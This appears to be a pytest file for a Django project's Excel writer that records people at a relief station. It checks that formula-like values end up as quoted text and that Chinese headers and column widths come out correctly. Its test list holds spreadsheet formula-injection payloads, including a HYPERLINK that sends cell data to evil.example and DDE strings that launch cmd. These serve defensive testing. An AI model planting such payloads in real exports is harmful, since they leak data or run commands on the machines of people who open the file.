"""THE Excel writer (core.excel): no cell ever becomes a formula; widths, headers and times are readable."""

import datetime
import io
import zipfile

from django.utils import timezone
from openpyxl import load_workbook

from core.excel import ExcelBook, is_formula_like, table_xlsx

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝HYPERLINK(\"x\")",
]


def _sheet_xml(content: bytes, index: int = 1) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return z.read(f"xl/worksheets/sheet{index}.xml").decode()


def test_every_formula_trigger_is_recognised():
    assert all(is_formula_like(value) for value in INJECTIONS)
    assert not any(is_formula_like(value) for value in ("张三", "QYZ-2026-00001", "1+1", "", "李=四"))


def test_formula_like_names_are_written_as_quoted_text_never_as_formulas():
    content = table_xlsx(sheet="名单", headers=["姓名"], rows=[[v] for v in INJECTIONS]).to_bytes()
    assert "<f>" not in _sheet_xml(content)  # no formula element anywhere in the sheet
    ws = load_workbook(io.BytesIO(content)).active
    for row, value in enumerate(INJECTIONS, start=2):
        cell = ws.cell(row=row, column=1)
        assert cell.data_type == "s" and cell.quotePrefix is True
        assert cell.value == value.replace("\r", "\n")  # shown verbatim (XML reads CR as LF)


def test_control_characters_are_dropped_instead_of_failing_the_export():
    content = table_xlsx(sheet="名单", headers=["姓名"], rows=[["张\x00三\x07"]]).to_bytes()
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "张三"


def test_chinese_headers_are_bold_frozen_and_columns_sized_for_cjk():
    book = ExcelBook()
    sheet = book.sheet("寻亲月报")
    sheet.title("清远市救助管理站 寻亲工作月报（2026年3月，截至月末）")
    sheet.header(["档案号", "姓名", "入站时间", "在站"])
    at = timezone.make_aware(datetime.datetime(2026, 3, 1, 8, 30))
    sheet.row(["QYZ-2026-00001", "欧阳建国", at, True])
    ws = load_workbook(io.BytesIO(book.to_bytes())).active
    assert ws.title == "寻亲月报" and ws["A2"].font.b and ws["A2"].value == "档案号"
    assert ws.freeze_panes == "A3"
    assert ws["C3"].value == datetime.datetime(2026, 3, 1, 8, 30)  # local time, no tz
    assert ws["D3"].value == "是"
    assert ws.column_dimensions["A"].width >= 16  # the file number fits
    assert 6 <= ws.column_dimensions["B"].width <= 60  # 4 CJK characters count double, within limits


def test_large_exports_stream_past_the_measured_rows():
    rows = ([f"QYZ-2026-{i:05d}", f"=cmd{i}"] for i in range(1000))
    content = table_xlsx(sheet="档案", headers=["档案号", "备注"], rows=rows).to_bytes()
    ws = load_workbook(io.BytesIO(content), read_only=True).active
    values = list(ws.iter_rows(min_row=1001, max_row=1001, values_only=True))
    assert values == [("QYZ-2026-00999", "=cmd999")]
    assert "<f>" not in _sheet_xml(content)


def test_the_download_carries_a_chinese_file_name():
    response = table_xlsx(sheet="a", headers=["a"], rows=[]).response("寻亲月报-2026-03")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "filename*=utf-8''%e5%af%bb" in response["Content-Disposition"].lower()


def test_no_other_module_writes_workbooks_with_openpyxl():
    """One path per concern: only core/excel.py builds workbooks (reading uploads with load_workbook is fine)."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writer = re.compile(r"from openpyxl import [^\n]*\bWorkbook\b|openpyxl\.Workbook\(|from openpyxl\.(styles|cell)")
    offenders = []
    for path in root.rglob("*.py"):
        rel = path.relative_to(root).as_posix()
        if rel.startswith((".venv/", "bench/")) or "/tests/" in f"/{rel}" or rel == "core/excel.py":
            continue
        if writer.search(path.read_text(encoding="utf-8")):
            offenders.append(rel)
    assert offenders == [], f"write .xlsx through core.excel, not openpyxl directly: {offenders}"


def test_a_form_header_merges_its_cells_centres_them_and_keeps_labels_text():
    book = ExcelBook()
    sheet = book.sheet("汇总表")
    sheet.title("情况汇总表", span=4)
    sheet.merged_header([(0, 0, 2, 1, "序号"), (0, 1, 1, 3, "照料服务"), (1, 1, 1, 1, "总数"), (1, 2, 1, 1, "检查"),
                         (1, 3, 1, 1, "=HYPERLINK(\"x\")")])
    sheet.row([1, 2, 3, 4])
    ws = load_workbook(io.BytesIO(book.to_bytes())).active
    assert {str(r) for r in ws.merged_cells.ranges} == {"A1:D1", "A2:A3", "B2:D2"}
    assert ws["B2"].value == "照料服务" and ws["B2"].font.bold and ws["B2"].alignment.horizontal == "center"
    assert ws["D3"].data_type == "s" and ws["D3"].quotePrefix  # a label is never a formula
    assert ws.freeze_panes == "A4" and ws["A4"].value == 1
